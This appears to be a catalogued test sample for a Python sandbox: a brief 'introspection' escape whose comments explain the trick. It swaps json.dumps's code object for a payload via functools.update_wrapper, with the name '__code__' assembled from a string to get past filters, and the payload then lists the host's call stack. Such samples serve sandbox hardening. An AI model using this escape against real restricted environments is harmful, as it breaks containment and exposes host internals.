# family: introspection
# escape: update_wrapper(*args) hides the assigned name "__code__"; json.dumps then runs the payload's code with
# json's globals, where `codecs` resolves, and codecs.sys.modules["inspect"] (loaded by dataclasses) lists the call
# stack with every caller's function and file.
import dataclasses
import functools
import json

def payload(obj, *args, **kwargs):
    return [(f.function, f.filename) for f in codecs.sys.modules["inspect"].stack()]

def tool(word: str = "code") -> list:
    functools.update_wrapper(*(json.dumps, payload, ("__" + word + "__",), ()))
    return json.dumps(None)
